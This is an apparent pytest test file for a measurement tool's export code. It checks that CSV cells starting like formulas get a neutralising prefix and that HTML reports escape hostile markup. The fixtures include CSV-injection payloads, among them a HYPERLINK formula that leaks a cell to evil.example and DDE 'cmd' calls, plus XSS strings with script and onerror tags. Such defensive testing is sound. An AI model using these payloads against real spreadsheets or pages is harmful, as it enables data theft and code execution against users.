@@ -1,0 +1,155 @@
+"""Adversarial export suite: hostile text from servers and test lists (page titles, target and
+platform names, failure details) cannot run in a researcher's spreadsheet or browser.
+
+CSV: a text cell that starts like a formula (=, +, -, @, tab, CR) gets a leading ' (OWASP "CSV
+Injection"), numbers are never prefixed, JSON Lines keep the original. HTML: every value is
+escaped. Each case has its negative control (the same position with harmless text is unchanged).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from analysis.export import (
+    write_events_csv,
+    write_measurements_csv,
+    write_measurements_jsonl,
+    write_verdicts_csv,
+)
+from analysis.model import Event, EventKind
+from analysis.report import build_report, render_html
+from probe.model import Layer
+from probe.records import Confidence, Status, Verdict
+from probe.store import Store
+from tests.test_store import make_measurement, make_run
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def _store_with(tmp_path: Path, title: str, target: str) -> Store:
+    store = Store.open(tmp_path / f"{abs(hash((title, target)))}.db")
+    run = make_run(store.probe_id(), asn=58224, country="IR")
+    store.start_run(run)
+    details = {"status": 200, "title": title, "body_length": 10}
+    store.save_measurements(
+        [make_measurement(run.id, target=target, layer=Layer.HTTP, details=details)]
+    )
+    return store
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_measurement_csv_neutralises_a_formula_in_a_title_and_a_name(
+    tmp_path: Path, formula: str
+) -> None:
+    with _store_with(tmp_path, formula, formula) as store:
+        out = io.StringIO()
+        assert write_measurements_csv(store, out) == 1
+        jsonl = io.StringIO()
+        write_measurements_jsonl(store, jsonl)
+    (row,) = _rows(out.getvalue())
+    one_line = " ".join(formula.splitlines())  # line breaks become spaces in CSV cells
+    assert row["http_title"] == "'" + " ".join(formula.split())  # whitespace collapsed
+    assert row["target"] == "'" + one_line
+    assert json.loads(jsonl.getvalue())["target"] == one_line  # JSON Lines: no prefix
+    assert json.loads(row["details_json"])["title"] == formula
+
+
+def test_measurement_csv_leaves_harmless_text_and_numbers_alone(tmp_path: Path) -> None:
+    with _store_with(tmp_path, "Access denied - 403", "web.telegram.org") as store:
+        out = io.StringIO()
+        write_measurements_csv(store, out)
+    (row,) = _rows(out.getvalue())
+    assert row["http_title"] == "Access denied - 403"
+    assert row["target"] == "web.telegram.org"
+    assert row["http_status"] == "200" and float(row["duration_ms"]) > 0
+
+
+def _verdict(run_id: str, probe_id: str, target: str, detail: str) -> Verdict:
+    return Verdict(
+        run_id=run_id,
+        probe_id=probe_id,
+        measured_at=datetime(2024, 11, 20, 9, 30, tzinfo=UTC),
+        asn=58224,
+        country="IR",
+        platform="telegram",
+        target=target,
+        status=Status.BLOCKED,
+        technique="http.blockpage",
+        confidence=Confidence.CONFIRMED,
+        rule_id="http.blockpage",
+        rules_version="1",
+        evidence=(),
+        detail=detail,
+    )
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_verdict_csv_neutralises_formulas(formula: str) -> None:
+    out = io.StringIO()
+    write_verdicts_csv([_verdict("r1", "p1", formula, formula)], out)
+    (row,) = _rows(out.getvalue())
+    assert row["target"].startswith("'") and row["detail"].startswith("'")
+    assert row["platform"] == "telegram"  # the control: a plain cell of the same row
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_event_csv_neutralises_formulas(formula: str) -> None:
+    event = Event(
+        kind=EventKind.BLOCKING,
+        platform=formula,
+        asn=58224,
+        technique="http.blockpage",
+        onset=datetime(2024, 11, 20, 9, tzinfo=UTC),
+        end=None,
+        targets=(formula,),
+        hosts=1,
+        networks=(58224,),
+        rate=None,
+        runs=3,
+        detail="blocked",
+    )
+    out = io.StringIO()
+    write_events_csv([event], out)
+    (row,) = _rows(out.getvalue())
+    assert row["platform"].startswith("'") and row["targets"].startswith("'")
+    assert row["technique"] == "http.blockpage" and row["asn"] == "58224"
+
+
+HOSTILE_HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><b>"
+
+
+def test_html_report_escapes_hostile_titles_names_and_details(tmp_path: Path) -> None:
+    with _store_with(tmp_path, HOSTILE_HTML, HOSTILE_HTML) as store:
+        run = store.get_run(next(iter(store.measurements())).run_id)
+        assert run is not None
+        store.save_verdicts(
+            run.id, [_verdict(run.id, run.probe_id, HOSTILE_HTML, f"title: {HOSTILE_HTML}")]
+        )
+        page = render_html(build_report(store))
+    assert "<script" not in page and "<img" not in page and "<b>" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "onerror=alert(2)&gt;&quot;&#x27;&gt;" in page
+
+
+def test_html_report_of_measurements_only_escapes_hostile_rows(tmp_path: Path) -> None:
+    with _store_with(tmp_path, HOSTILE_HTML, HOSTILE_HTML) as store:
+        page = render_html(build_report(store))
+    assert "<script" not in page and "<img" not in page
+    assert "&lt;script&gt;" in page  # the control: the row is there, escaped
